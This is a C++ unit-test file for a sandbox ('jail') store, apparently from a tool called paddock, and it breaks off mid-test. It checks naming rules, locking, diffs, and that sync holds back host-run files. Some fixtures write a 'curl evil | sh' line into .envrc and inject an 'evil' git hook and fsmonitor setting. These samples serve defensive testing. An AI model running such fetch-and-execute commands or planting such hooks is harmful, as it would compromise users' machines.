// Unit tests of the jail store, workspaces and diff/sync on the real filesystem (a temp dir).
#include <fcntl.h>
#include <linux/capability.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <fstream>
#include <sstream>
#include <string>

#include <gtest/gtest.h>

#include "jail/git_grants.h"
#include "jail/process.h"
#include "jail/tree.h"
#include "paddock/jail.h"

namespace paddock::jail {
namespace {

class TempDir {
 public:
  TempDir() {
    char t[] = "/tmp/paddock-jail-test-XXXXXX";
    path_ = mkdtemp(t);
  }
  ~TempDir() { std::system(("chmod -R u+rwx '" + path_ + "' 2>/dev/null; rm -rf '" + path_ + "'").c_str()); }
  const std::string& path() const { return path_; }

 private:
  std::string path_;
};

void write(const std::string& p, const std::string& content, mode_t mode = 0644) {
  std::ofstream(p) << content;
  chmod(p.c_str(), mode);
}
std::string read(const std::string& p) {
  std::ifstream f(p);
  std::stringstream s;
  s << f.rdbuf();
  return s.str();
}

TEST(JailName, GoodNamesPass) {
  for (const char* n : {"fix-auth", "a", "A.b_c-1", "v1.2"}) {
    EXPECT_TRUE(check_name(n).ok()) << n;
  }
  EXPECT_TRUE(check_name(std::string(64, 'a')).ok());
}

TEST(JailName, BadNamesAreRefusedWithTheReason) {
  struct Case {
    std::string name, why;
  } cases[] = {
      {"", "empty"},
      {"a/b", "'/'"},
      {"..", "\"..\""},
      {"a..b", "\"..\""},
      {std::string(65, 'a'), "65 bytes"},
      {"a\nb", "control byte"},
      {"a\x1b[31m", "control byte"},
      {".hidden", "starts with"},
      {"-rf", "starts with"},
      {"a b", "other than"},
  };
  for (const auto& c : cases) {
    auto r = check_name(c.name);
    ASSERT_FALSE(r.ok()) << c.name;
    EXPECT_NE(r.error().describe().find(c.why), std::string::npos) << r.error().describe();
    // Control bytes are never echoed raw.
    EXPECT_EQ(r.error().describe().find('\x1b'), std::string::npos);
  }
}

Runtime sample() {
  Runtime r;
  r.name = "j1";
  r.jail_root = "/s/j1";
  r.profile = "default";
  r.workspace_mode = WorkspaceMode::Worktree;
  r.workspace_root = "/s/j1/workspaces/j1";
  r.home_mode = HomeMode::Temporary;
  r.home_root = "/s/j1/home";
  r.source = "/src";
  r.created = 10;
  r.last_used = 20;
  r.max_size_bytes = 1 << 20;
  r.git_branch = "paddock/j1";
  r.git_base = "abc";
  r.git_dir = "/src/.git/worktrees/j1";
  r.git_common_dir = "/src/.git";
  return r;
}

TEST(JailRuntime, RoundTripsThroughJson) {
  Runtime r = sample();
  auto j = runtime_to_json(r);
  EXPECT_EQ(j["format"], kRuntimeFormat);
  auto back = runtime_from_json(j, "f.json");
  ASSERT_TRUE(back.ok()) << back.error().describe();
  EXPECT_EQ(runtime_to_json(*back), j);
}

TEST(JailRuntime, DamageIsAnErrorNamingTheFileAndOfferingRm) {
  auto j = runtime_to_json(sample());
  for (const char* key : {"workspace", "name", "created", "format"}) {
    auto k = j;
    k.erase(key);
    auto r = runtime_from_json(k, "/x/runtime.json");
    ASSERT_FALSE(r.ok()) << key;
    EXPECT_EQ(r.error().where, "/x/runtime.json");
    EXPECT_NE(r.error().hint.find("jail rm"), std::string::npos) << key;
  }
  auto newer = j;
  newer["format"] = "paddock.jail/2";
  auto r = runtime_from_json(newer, "/x/runtime.json");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message.find("paddock.jail/2"), std::string::npos);
}

class JailStore : public ::testing::Test {
 protected:
  void SetUp() override {
    src_ = tmp_.path() + "/src";
    mkdir(src_.c_str(), 0755);
    mkdir((src_ + "/dir").c_str(), 0755);
    write(src_ + "/a.txt", "alpha\n");
    write(src_ + "/run.sh", "#!/bin/sh\n", 0755);
    write(src_ + "/dir/b.txt", "beta\n");
    write(src_ + "/keep.txt", "same\n");
    symlink("a.txt", (src_ + "/link").c_str());
    symlink("/etc/passwd", (src_ + "/outside").c_str());
    auto s = Store::open(tmp_.path() + "/state/paddock/jails");
    ASSERT_TRUE(s.ok()) << s.error().describe();
    store_.emplace(std::move(*s));
  }
  Runtime make(const std::string& name, WorkspaceMode m = WorkspaceMode::Copy) {
    CreateOptions o;
    o.name = name;
    o.workspace = m;
    o.source = src_;
    auto r = store_->create(o);
    EXPECT_TRUE(r.ok()) << r.error().describe();
    return r.ok() ? *r : Runtime{};
  }
  TempDir tmp_;
  std::string src_;
  std::optional<Store> store_;
};

TEST_F(JailStore, CreateMakesTheRootsAndRuntimeJson) {
  Runtime r = make("one");
  const std::string root = store_->dir() + "/one";
  for (const char* sub : {"home", "workspaces", "runtime", "tmp"}) {
    struct stat st;
    ASSERT_EQ(lstat((root + "/" + sub).c_str(), &st), 0) << sub;
    EXPECT_TRUE(S_ISDIR(st.st_mode));
    EXPECT_EQ(st.st_mode & 0777, 0700u) << sub;
  }
  EXPECT_EQ(r.workspace_root, root + "/workspaces/one");
  auto loaded = store_->load("one");
  ASSERT_TRUE(loaded.ok()) << loaded.error().describe();
  EXPECT_EQ(runtime_to_json(*loaded), runtime_to_json(r));
  struct stat st;
  ASSERT_EQ(stat((root + "/runtime/runtime.json").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0600u);
  // A second jail of the same name is refused.
  CreateOptions o;
  o.name = "one";
  o.source = src_;
  auto again = store_->create(o);
  ASSERT_FALSE(again.ok());
  EXPECT_NE(again.error().message.find("exists already"), std::string::npos);
}

TEST_F(JailStore, CopyKeepsModesAndSymlinksAsLinks) {
  Runtime r = make("c");
  const std::string ws = r.workspace_root;
  EXPECT_EQ(read(ws + "/a.txt"), "alpha\n");
  EXPECT_EQ(read(ws + "/dir/b.txt"), "beta\n");
  struct stat st;
  ASSERT_EQ(stat((ws + "/run.sh").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0755u);
  char buf[64];
  ssize_t n = readlink((ws + "/outside").c_str(), buf, sizeof(buf));
  ASSERT_GT(n, 0);
  EXPECT_EQ(std::string(buf, n), "/etc/passwd");  // copied as a link, not the file it names
  ASSERT_EQ(lstat((ws + "/link").c_str(), &st), 0);
  EXPECT_TRUE(S_ISLNK(st.st_mode));
}

TEST_F(JailStore, DamagedRuntimeJsonNamesTheFileAndOffersRm) {
  make("d");
  const std::string file = store_->dir() + "/d/runtime/runtime.json";
  write(file, "{ not json", 0600);
  auto r = store_->load("d");
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().where, file);
  EXPECT_NE(r.error().hint.find("paddock jail rm d"), std::string::npos);
  // rm still removes it.
  ASSERT_TRUE(store_->remove("d").ok());
  struct stat st;
  EXPECT_NE(lstat((store_->dir() + "/d").c_str(), &st), 0);
}

TEST_F(JailStore, RootsOthersCanWriteAreRefused) {
  Runtime r = make("p");
  chmod((r.jail_root + "/home").c_str(), 0777);
  auto l = store_->load("p");
  ASSERT_FALSE(l.ok());
  EXPECT_NE(l.error().message.find("can be written by other users"), std::string::npos) << l.error().describe();
  chmod((r.jail_root + "/home").c_str(), 0700);
  chmod(r.workspace_root.c_str(), 0757);
  l = store_->load("p");
  ASSERT_FALSE(l.ok());
  EXPECT_NE(l.error().message.find("workspace"), std::string::npos) << l.error().describe();
}

TEST_F(JailStore, ASymlinkedRootIsRefused) {
  Runtime r = make("s");
  rename((r.jail_root + "/home").c_str(), (r.jail_root + "/home.real").c_str());
  symlink("/tmp", (r.jail_root + "/home").c_str());
  auto l = store_->load("s");
  ASSERT_FALSE(l.ok());
  EXPECT_NE(l.error().message.find("symlink"), std::string::npos) << l.error().describe();
}

TEST_F(JailStore, UnknownJailIsAClearError) {
  auto l = store_->load("nope");
  ASSERT_FALSE(l.ok());
  EXPECT_NE(l.error().message.find("no jail named nope"), std::string::npos);
  EXPECT_FALSE(store_->load("../x").ok());
}

TEST_F(JailStore, ExclusiveLockIsRefusedWhileARunHoldsTheSharedOne) {
  make("l");
  auto a = store_->lock("l", false);
  ASSERT_TRUE(a.ok());
  auto b = store_->lock("l", false);  // two execs at once
  ASSERT_TRUE(b.ok());
  auto c = store_->lock("l", true);
  ASSERT_FALSE(c.ok());
  EXPECT_NE(c.error().message.find("in use"), std::string::npos);
  a = Lock();
  b = Lock();
  EXPECT_TRUE(store_->lock("l", true).ok());
}

TEST_F(JailStore, AUseIsRecordedAsLastUsed) {
  Runtime r = make("lu");
  {
    auto l = store_->lock("lu", false);
    ASSERT_TRUE(l.ok());
    struct timespec later[2] = {{0, UTIME_OMIT}, {r.last_used + 100, 0}};
    ASSERT_EQ(utimensat(AT_FDCWD, (r.jail_root + "/runtime/lock").c_str(), later, AT_SYMLINK_NOFOLLOW), 0);
  }
  auto loaded = store_->load("lu");
  ASSERT_TRUE(loaded.ok());
  EXPECT_EQ(loaded->last_used, r.last_used + 100);
  auto l = store_->lock("lu", false);
  l->touch();
  loaded = store_->load("lu");
  EXPECT_GE(loaded->last_used, r.last_used);
  EXPECT_LT(loaded->last_used, r.last_used + 100);  // touch sets it to now
}

TEST_F(JailStore, AStoreInsideTheSourceIsRefused) {
  CreateOptions o;
  o.name = "self";
  o.source = tmp_.path();  // the store is under it
  auto r = store_->create(o);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message.find("lies inside the source"), std::string::npos);
}

TEST_F(JailStore, CopyDiffSeesOnlyTheJailsChanges) {
  Runtime r = make("d2");
  auto d = diff(r, false);
  ASSERT_TRUE(d.ok()) << d.error().describe();
  EXPECT_TRUE(d->changes.empty());
  const std::string ws = r.workspace_root;
  write(ws + "/a.txt", "ALPHA\n");
  unlink((ws + "/dir/b.txt").c_str());
  write(ws + "/new.txt", "new\n");
  chmod((ws + "/run.sh").c_str(), 0644);
  // Rewritten with the same content: not a change.
  write(ws + "/keep.txt", "same\n");
  utimensat(AT_FDCWD, (ws + "/dir").c_str(), nullptr, 0);
  // A change in the source alone is not the jail's.
  write(src_ + "/dir/only-in-source", "s");
  d = diff(r, true);
  ASSERT_TRUE(d.ok()) << d.error().describe();
  std::string got;
  for (const auto& c : d->changes) got += std::string(1, c.kind) + " " + c.path + "\n";
  EXPECT_EQ(got, "M a.txt\nD dir/b.txt\nA new.txt\nM run.sh\n");
  EXPECT_NE(d->patch.find("diff --git a/a.txt b/a.txt"), std::string::npos) << d->patch;
  EXPECT_NE(d->patch.find("+ALPHA"), std::string::npos);
  EXPECT_NE(d->patch.find("new mode 100644"), std::string::npos) << d->patch;
  EXPECT_EQ(d->patch.find(src_), std::string::npos) << "absolute paths left in the patch:\n" << d->patch;
  EXPECT_EQ(d->patch.find(ws), std::string::npos) << d->patch;
}

TEST_F(JailStore, CopyApplyPublishesExactlyTheChangesAndRefusesWhenTheSourceMoved) {
  Runtime r = make("ap");
  const std::string ws = r.workspace_root;
  write(ws + "/a.txt", "ALPHA\n");
  mkdir((ws + "/newdir").c_str(), 0755);
  write(ws + "/newdir/n.txt", "n\n");
  unlink((ws + "/dir/b.txt").c_str());
  symlink("a.txt", (ws + "/l2").c_str());
  // Nothing reached the source yet.
  EXPECT_EQ(read(src_ + "/a.txt"), "alpha\n");
  // The source changed underneath one of them: refused whole, listing it.
  write(src_ + "/a.txt", "user edit\n");
  std::vector<std::string> refused_paths;
  auto refused = sync_apply(r, &refused_paths);
  ASSERT_FALSE(refused.ok());
  EXPECT_NE(refused.error().message.find("a.txt"), std::string::npos) << refused.error().describe();
  EXPECT_EQ(refused_paths, std::vector<std::string>{"a.txt"});  // what `sync --json` reports
  EXPECT_EQ(read(src_ + "/dir/b.txt"), "beta\n");  // nothing applied
  // Put back (same size and mtime make it "unchanged" only if equal: restore via a fresh jail).
  write(src_ + "/a.txt", "alpha\n");
  ASSERT_TRUE(store_->remove("ap").ok());
  r = make("ap");
  write(r.workspace_root + "/a.txt", "ALPHA\n");
  unlink((r.workspace_root + "/dir/b.txt").c_str());
  symlink("a.txt", (r.workspace_root + "/l2").c_str());
  refused_paths.clear();
  auto ok = sync_apply(r, &refused_paths);
  ASSERT_TRUE(ok.ok()) << ok.error().describe();
  EXPECT_TRUE(refused_paths.empty());
  EXPECT_EQ(ok->applied.size(), 3u);
  EXPECT_TRUE(ok->held.empty());
  EXPECT_TRUE(ok->left_behind.empty());
  EXPECT_EQ(read(src_ + "/a.txt"), "ALPHA\n");
  struct stat st;
  EXPECT_NE(lstat((src_ + "/dir/b.txt").c_str(), &st), 0);
  ASSERT_EQ(lstat((src_ + "/l2").c_str(), &st), 0);
  EXPECT_TRUE(S_ISLNK(st.st_mode));
  // After a sync the jail has nothing left to publish.
  auto d = diff(r, false);
  ASSERT_TRUE(d.ok());
  EXPECT_TRUE(d->changes.empty());
}

TEST_F(JailStore, CopyChangesInsideDotGitAreNeverPublished) {
  mkdir((src_ + "/.git").c_str(), 0755);
  write(src_ + "/.git/config", "[core]\n");
  Runtime r = make("g");
  mkdir((r.workspace_root + "/.git/hooks").c_str(), 0755);
  write(r.workspace_root + "/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
  write(r.workspace_root + "/.git/config", "[core]\nfsmonitor = evil\n");
  mkdir((r.workspace_root + "/sub").c_str(), 0755);
  mkdir((r.workspace_root + "/sub/.git").c_str(), 0755);
  write(r.workspace_root + "/sub/.git/config", "x");
  auto d = diff(r, false);
  ASSERT_TRUE(d.ok());
  for (const auto& c : d->changes) EXPECT_EQ(c.path.find(".git"), std::string::npos) << c.path;
  ASSERT_TRUE(sync_apply(r).ok());
  EXPECT_EQ(read(src_ + "/.git/config"), "[core]\n");
  struct stat st;
  EXPECT_NE(lstat((src_ + "/.git/hooks/pre-commit").c_str(), &st), 0);
}

TEST_F(JailStore, ApplyNeverWritesWhatTheHostRuns) {
  Runtime r = make("held");
  write(r.workspace_root + "/.envrc", "curl evil | sh\n");
  mkdir((r.workspace_root + "/sub").c_str(), 0755);
  mkdir((r.workspace_root + "/sub/.vscode").c_str(), 0755);
  write(r.workspace_root + "/sub/.vscode/tasks.json", "{}");
  write(r.workspace_root + "/a.txt", "ALPHA\n");
  auto applied = sync_apply(r);
  ASSERT_TRUE(applied.ok()) << applied.error().describe();
  std::vector<std::string> held;
  for (const Change& c : applied->held) {
    held.push_back(c.path);
    EXPECT_NE(c.held.find("host-run"), std::string::npos) << c.held;
  }
  EXPECT_EQ(held, (std::vector<std::string>{".envrc", "sub/.vscode/tasks.json"}));
  ASSERT_EQ(applied->applied.size(), 1u);
  EXPECT_EQ(applied->applied[0].path, "a.txt");
  struct stat st;
  EXPECT_NE(lstat((src_ + "/.envrc").c_str(), &st), 0);
  EXPECT_NE(lstat((src_ + "/sub/.vscode/tasks.json").c_str(), &st), 0);
  EXPECT_EQ(read(src_ + "/a.txt"), "ALPHA\n");
}

TEST_F(JailStore, RemoveNeverFollowsSymlinksOut) {
  Runtime r = make("rm");
  const std::string victim = tmp_.path() + "/victim";
  mkdir(victim.c_str(), 0755);
  write(victim + "/keep", "k");
  symlink(victim.c_str(), (r.workspace_root + "/escape").c_str());
  symlink(victim.c_str(), (r.jail_root + "/home/escape").c_str());
  chmod((r.workspace_root + "/dir").c_str(), 0);  // a run left it unreadable
  ASSERT_TRUE(store_->remove("rm").ok());
  EXPECT_EQ(read(victim + "/keep"), "k");
  struct stat st;
  EXPECT_NE(lstat(r.jail_root.c_str(), &st), 0);
}

// A run can make a tree thousands of levels deep: removing it must not need a descriptor per
// level (it failed with EMFILE and left the jail half removed as .removing-*).
TEST_F(JailStore, RemoveWorksOnTreesDeeperThanTheDescriptorLimit) {
  Runtime r = make("deep");
  std::string p = r.workspace_root;
  int fd = open(p.c_str(), O_RDONLY | O_DIRECTORY);
  ASSERT_GE(fd, 0);
  for (int i = 0; i < 300; ++i) {
    ASSERT_EQ(mkdirat(fd, "d", 0755), 0);
    int sub = openat(fd, "d", O_RDONLY | O_DIRECTORY);
    close(fd);
    fd = sub;
    ASSERT_GE(fd, 0);
  }
  close(fd);
  struct rlimit old;
  ASSERT_EQ(getrlimit(RLIMIT_NOFILE, &old), 0);
  struct rlimit low = old;
  low.rlim_cur = 64;
  ASSERT_EQ(setrlimit(RLIMIT_NOFILE, &low), 0);
  auto rm = store_->remove("deep");
  setrlimit(RLIMIT_NOFILE, &old);
  ASSERT_TRUE(rm.ok()) << rm.error().describe();
  struct stat st;
  EXPECT_NE(lstat(r.jail_root.c_str(), &st), 0);
  EXPECT_EQ(std::system(("ls -A '" + store_->dir() + "' | grep -q removing").c_str()) == 0, false)
      << "a .removing-* directory was left";
}

TEST_F(JailStore, DiskUsageCountsTheJail) {
  Runtime r = make("du");
  write(r.workspace_root + "/big", std::string(1 << 20, 'x'));
  auto u = disk_usage(r.jail_root);
  ASSERT_TRUE(u.ok());
  EXPECT_GE(*u, 1u << 20);
}

// Issue 30 item 3: overlayfs leaves an overlay workspace's work/work with mode 0 after a mount,
// and a run may chmod 0 a directory of its own: the size cap read "cannot open directory" and
// the second exec of an overlay jail with --max-size failed. Measured in a child without the
// capabilities that pass by modes (as an unprivileged user measures); the mode is put back.
TEST_F(JailStore, DiskUsageCountsADirectoryItsOwnerCannotRead) {
  Runtime r = make("du0");
  const std::string locked = r.workspace_root + "/locked";
  ASSERT_EQ(mkdir(locked.c_str(), 0700), 0);
  write(locked + "/big", std::string(1 << 20, 'x'));
  ASSERT_EQ(chmod(locked.c_str(), 0), 0);
  pid_t pid = fork();
  ASSERT_GE(pid, 0);
  if (pid == 0) {
    __user_cap_header_struct hdr{_LINUX_CAPABILITY_VERSION_3, 0};
    __user_cap_data_struct data[2]{};
    if (syscall(SYS_capget, &hdr, data) != 0) _exit(2);
    for (int cap : {CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, CAP_FOWNER}) data[cap / 32].effective &= ~(1u << (cap % 32));
    if (syscall(SYS_capset, &hdr, data) != 0) _exit(2);
    auto u = disk_usage(r.jail_root);
    _exit(!u.ok() ? 3 : *u < (1u << 20) ? 4 : 0);
  }
  int status = 0;
  ASSERT_EQ(waitpid(pid, &status, 0), pid);
  EXPECT_TRUE(WIFEXITED(status));
  EXPECT_EQ(WEXITSTATUS(status), 0) << "3: disk_usage failed, 4: it did not count the locked directory";
  struct stat st;
  ASSERT_EQ(lstat(locked.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0u) << "the directory's mode was not put back";
}

// Issue 30 item 2: the source's .gitignore leaves files out of a copy jail's diff; a jail's
// .gitignore leaves more out (counted apart) but its "!" lines bring nothing back; names a run
// chose that look like pathspec magic or globs are matched as the names they are; a symlinked
// .gitignore in the workspace is not read.
TEST_F(JailStore, DiffLeavesOutWhatTheIgnoreRulesIgnore) {
  write(src_ + "/.gitignore", "*.o\n:!x.c\n");
  Runtime r = make("ign");
  const std::string ws = r.workspace_root;
  write(ws + "/m.o", "o");
  write(ws + "/:!x.c", "literal name");
  write(ws + "/b*.c", "glob-looking name");
  write(ws + "/x.c", "plain");
  mkdir((ws + "/sub").c_str(), 0755);
  write(ws + "/sub/.gitignore", "hide.txt\n!*.o\n");
  write(ws + "/sub/hide.txt", "h");
  write(ws + "/sub/n.o", "o");
  mkdir((ws + "/lnk").c_str(), 0755);
  symlink((src_ + "/.gitignore").c_str(), (ws + "/lnk/.gitignore").c_str());
  write(ws + "/lnk/p.o", "o");  // ignored by the source's *.o all the same
  write(ws + "/lnk/x.c", "not ignored: the link is not read");
  mkdir((ws + "/d").c_str(), 0755);
  mkdir((ws + "/d/.gitignore").c_str(), 0755);  // a directory: the rules tree cannot hold it
  write(ws + "/d/.gitignore/q.o", "shown, never a failed diff");
  auto d = diff(r, false);
  ASSERT_TRUE(d.ok()) << d.error().describe();
  std::vector<std::string> paths;
  for (const Change& c : d->changes) paths.push_back(c.path);
  EXPECT_EQ(paths, (std::vector<std::string>{"b*.c", "d/.gitignore/q.o", "lnk/.gitignore", "lnk/x.c", "sub/.gitignore", "x.c"}));
  EXPECT_EQ(d->ignored.files, 5u);  // m.o, :!x.c, sub/n.o, lnk/p.o by the source; sub/hide.txt by the jail
  EXPECT_EQ(d->ignored.by_jail, 1u);
  auto all = diff(r, false, false, Ignored::Include);
  ASSERT_TRUE(all.ok()) << all.error().describe();
  EXPECT_EQ(all->changes.size(), 11u);
  EXPECT_EQ(all->ignored.files, 0u);
}

TEST(JailManifest, RoundTripsOddNames) {
  TempDir t;
  int fd = open(t.path().c_str(), O_RDONLY | O_DIRECTORY);
  std::vector<ManifestEntry> m = {{" lead space", {'f', 0644, 3, 4, 5, 6}, {'f', 0600, 3, 9, 10, 11}},
                                  {"new\nline", {'l', 0777, 1, 2, 3, 4}, {}},
                                  {"d", {'d', 0755, 0, 1, 2, 3}, {'d', 0700, 0, 1, 2, 3}}};
  ASSERT_TRUE(write_manifest(fd, m).ok());
  auto back = read_manifest(fd, "m");
  ASSERT_TRUE(back.ok()) << back.error().describe();
  ASSERT_EQ(back->size(), 3u);
  for (std::size_t i = 0; i < m.size(); ++i) {
    EXPECT_EQ((*back)[i].path, m[i].path);
    EXPECT_EQ((*back)[i].source, m[i].source);
    EXPECT_EQ((*back)[i].workspace, m[i].workspace);
  }
  close(fd);
}

}  // namespace
}  // namespace paddock::jail

namespace paddock::jail {
namespace {

TEST(LinkedWorktree, FoundAndCheckedBothWays) {
  TempDir t;
  const std::string repo = t.path() + "/repo", wt = t.path() + "/wt";
  ASSERT_EQ(std::system(("git init -q -b main " + repo + " && git -C " + repo +
                         " -c user.name=a -c user.email=b commit -q --allow-empty -m x && git -C " + repo +
                         " worktree add -q " + wt + " -b w")
                            .c_str()),
            0);
  mkdir((wt + "/sub").c_str(), 0755);
  auto w = find_linked_worktree(wt + "/sub");
  ASSERT_TRUE(w.ok()) << w.error().describe();
  ASSERT_TRUE(w->has_value());
  EXPECT_EQ((*w)->common_dir, repo + "/.git");
  EXPECT_EQ((*w)->git_dir, repo + "/.git/worktrees/wt");
  EXPECT_EQ((*w)->top, wt);
  // The repository's own work tree is not a linked worktree.
  auto main = find_linked_worktree(repo);
  ASSERT_TRUE(main.ok());
  EXPECT_FALSE(main->has_value());
  // A .git file a run could have written, naming some other directory, is refused.
  const std::string forged = t.path() + "/forged";
  mkdir(forged.c_str(), 0755);
  write(forged + "/.git", "gitdir: " + t.path() + "\n");
  auto f = find_linked_worktree(forged);
  ASSERT_FALSE(f.ok());
  // ... and so is one naming a real worktree's git directory that does not name it back.
  write(forged + "/.git", "gitdir: " + repo + "/.git/worktrees/wt\n");
  f = find_linked_worktree(forged);
  ASSERT_FALSE(f.ok());
  EXPECT_NE(f.error().message.find("does not name this worktree back"), std::string::npos) << f.error().describe();
}

// ---- the faces: exec, sync, show, prune (paddock/jail.h) ---------------------------------------

// A jail last used at T (seconds since the epoch): runtime.json and the lock's mtime (load() takes
// the later).
void age(const Store& st, Runtime r, std::int64_t t) {
  r.last_used = t;
  ASSERT_TRUE(st.save(r).ok());
  ASSERT_TRUE(st.lock(r.name, false).ok());  // the lock file exists once a run has held it
  struct timespec when[2] = {{0, UTIME_OMIT}, {t, 0}};
  ASSERT_EQ(utimensat(AT_FDCWD, (r.jail_root + "/runtime/lock").c_str(), when, AT_SYMLINK_NOFOLLOW), 0);
}

RunRequest stopped_request(std::string* cwd = nullptr, std::string* profile = nullptr) {
  RunRequest req;
  req.command = {"/bin/true"};
  req.say = [](const std::vector<std::string>&) {};
  req.configure = [cwd, profile](PolicyBuilder&, const ConfigureContext& c) -> Result<void> {
    if (cwd) *cwd = c.host.cwd;
    if (profile) *profile = std::string(c.jail_profile);
    return make_error("stopped before the run");
  };
  return req;
}

TEST_F(JailStore, ExecOfAJailThatIsNotThereIsRefusedWithExit1) {
  bool asked = false;
  RunRequest req = stopped_request();
  req.configure = [&](PolicyBuilder&, const ConfigureContext&) -> Result<void> { return asked = true, Result<void>{}; };
  RunOutcome o = exec(*store_, "nope", std::move(req));
  ASSERT_TRUE(o.error.has_value());
  EXPECT_EQ(o.exit_code, 1);
  EXPECT_NE(o.error->message.find("no jail named nope"), std::string::npos) << o.error->describe();
  EXPECT_FALSE(asked);
}

TEST_F(JailStore, ExecIsRefusedWhileSyncOrRmHoldsTheJail) {
  make("busy");
  auto held = store_->lock("busy", true);
  ASSERT_TRUE(held.ok());
  RunOutcome o = exec(*store_, "busy", stopped_request());
  ASSERT_TRUE(o.error.has_value());
  EXPECT_EQ(o.exit_code, 1);
  EXPECT_NE(o.error->message.find("in use"), std::string::npos) << o.error->describe();
}

TEST_F(JailStore, ExecOverTheSizeCapIsRefusedBeforeAnythingRuns) {
  CreateOptions c;
  c.name = "capped";
  c.source = src_;
  c.max_size_bytes = 1;
  ASSERT_TRUE(store_->create(c).ok());
  bool asked = false;
  RunRequest req = stopped_request();
  req.configure = [&](PolicyBuilder&, const ConfigureContext&) -> Result<void> { return asked = true, Result<void>{}; };
  RunOutcome o = exec(*store_, "capped", std::move(req));
  ASSERT_TRUE(o.error.has_value());
  EXPECT_EQ(o.exit_code, 1);
  EXPECT_NE(o.error->message.find("over its size cap of 1"), std::string::npos) << o.error->describe();
  EXPECT_NE(o.error->hint.find("paddock jail rm capped"), std::string::npos);
  EXPECT_FALSE(asked);
}

TEST_F(JailStore, ExecWithABackendThatIsNotThereIsRefusedWithExit2) {
  make("bk");
  RunRequest req = stopped_request();
  req.backend = "docker";
  RunOutcome o = exec(*store_, "bk", std::move(req));
  ASSERT_TRUE(o.error.has_value());
  EXPECT_EQ(o.exit_code, 2);
  EXPECT_NE(o.error->message.find("unknown backend"), std::string::npos);
}

TEST_F(JailStore, ExecRunsInTheWorkspaceWithTheJailsProfileRecordsTheUseAndLetsGo) {
  Runtime r = make("ws");
  age(*store_, r, r.last_used - 1000);
  std::string cwd, profile;
  RunOutcome o = exec(*store_, "ws", stopped_request(&cwd, &profile));
  ASSERT_TRUE(o.error.has_value());
  EXPECT_EQ(o.error->message, "stopped before the run");
  EXPECT_EQ(o.exit_code, 2);
  EXPECT_EQ(cwd, r.workspace_root);
  EXPECT_EQ(profile, r.profile);
  auto loaded = store_->load("ws");
  ASSERT_TRUE(loaded.ok());
  EXPECT_GT(loaded->last_used, r.last_used - 1000);  // touched
  EXPECT_TRUE(store_->lock("ws", true).ok());         // the shared lock is gone with the exec
}

TEST_F(JailStore, SyncToAPatchHoldsOnlyWhatEverySyncPublishes) {
  Runtime r = make("sp");
  write(r.workspace_root + "/a.txt", "ALPHA\n");
  write(r.workspace_root + "/.envrc", "curl evil | sh\n");
  const std::string patch = tmp_.path() + "/out.patch";
  auto p = sync(*store_, "sp", {SyncTo::Kind::Patch, patch});
  ASSERT_TRUE(p.ok()) << p.error().describe();
  ASSERT_EQ(p->written.size(), 1u);
  EXPECT_EQ(p->written[0].path, "a.txt");
  ASSERT_EQ(p->held.size(), 1u);
  EXPECT_EQ(p->held[0].path, ".envrc");
  EXPECT_EQ(p->source, src_);
  const std::string text = read(patch);
  EXPECT_NE(text.find("+ALPHA"), std::string::npos) << text;
  EXPECT_EQ(text.find("evil"), std::string::npos) << text;
  EXPECT_EQ(read(src_ + "/a.txt"), "alpha\n");  // the source is not touched
}

TEST_F(JailStore, SyncIsRefusedWhileACommandRunsInTheJail) {
  Runtime r = make("sr");
  write(r.workspace_root + "/a.txt", "ALPHA\n");
  auto running = store_->lock("sr", false);
  ASSERT_TRUE(running.ok());
  for (SyncTo to : {SyncTo{SyncTo::Kind::Apply, ""}, SyncTo{SyncTo::Kind::Patch, tmp_.path() + "/p"}}) {
    auto s = sync(*store_, "sr", to);
    ASSERT_FALSE(s.ok());
    EXPECT_NE(s.error().message.find("in use"), std::string::npos) << s.error().describe();
  }
  EXPECT_EQ(read(src_ + "/a.txt"), "alpha\n");
  struct stat st;
  EXPECT_NE(lstat((tmp_.path() + "/p").c_str(), &st), 0);
}

TEST_F(JailStore, SyncToAPatchNeverWritesThroughASymlinkedDirectory) {
  make("sl");
  ASSERT_EQ(symlink("/tmp", (tmp_.path() + "/link").c_str()), 0);
  auto s = sync(*store_, "sl", {SyncTo::Kind::Patch, tmp_.path() + "/link/x.patch"});
  EXPECT_FALSE(s.ok());
}

TEST_F(JailStore, ShowMeasuresTheJail) {
  make("sh");
  auto s = show(*store_, "sh");
  ASSERT_TRUE(s.ok()) << s.error().describe();
  EXPECT_EQ(s->runtime.name, "sh");
  ASSERT_TRUE(s->size_bytes.has_value());
  EXPECT_GT(*s->size_bytes, 0u);
  EXPECT_FALSE(show(*store_, "nope").ok());
}

TEST_F(JailStore, PruneRemovesTheOldOnesAndSkipsOneInUse) {
  const std::int64_t now = 10'000'000;
  age(*store_, make("old"), now - 3 * 86400);
  age(*store_, make("busy"), now - 2 * 86400);
  age(*store_, make("new"), now - 60);
  auto running = store_->lock("busy", false);
  ASSERT_TRUE(running.ok());
  PruneOptions o;
  o.older_than = std::chrono::hours(24);
  o.now = now;
  o.dry_run = true;
  auto dry = prune(*store_, o);
  ASSERT_TRUE(dry.ok()) << dry.error().describe();
  EXPECT_EQ(dry->removed, 1);
  EXPECT_TRUE(store_->load("old").ok());  // a dry run removes nothing
  o.dry_run = false;
  auto p = prune(*store_, o);
  ASSERT_TRUE(p.ok()) << p.error().describe();
  ASSERT_EQ(p->steps.size(), 2u);
  EXPECT_EQ(p->steps[0].jail.name, "old");
  EXPECT_FALSE(p->steps[0].refused);
  EXPECT_EQ(p->steps[1].jail.name, "busy");
  ASSERT_TRUE(p->steps[1].refused.has_value());
  EXPECT_EQ(p->removed, 1);
  EXPECT_FALSE(store_->load("old").ok());
  EXPECT_TRUE(store_->load("busy").ok());
  EXPECT_TRUE(store_->load("new").ok());
}

TEST_F(JailStore, PruneToASizeRemovesTheLeastRecentlyUsedUntilUnder) {
  const std::int64_t now = 10'000'000;
  age(*store_, make("a"), now - 300);
  age(*store_, make("b"), now - 200);
  age(*store_, make("c"), now - 100);
  auto one = show(*store_, "c");
